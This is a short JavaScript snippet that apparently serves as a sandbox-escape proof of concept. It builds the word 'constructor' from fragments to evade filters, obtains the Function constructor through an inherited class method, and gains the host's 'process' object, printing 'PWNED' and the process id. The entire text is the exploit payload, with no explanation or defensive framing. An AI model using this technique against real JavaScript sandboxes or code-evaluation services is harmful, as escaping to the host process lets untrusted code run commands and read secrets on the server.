const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
new C().go({});
const fn = (x) => x;
class D extends C {}
console.log('PWNED', new D().go(fn)('return process')().pid);
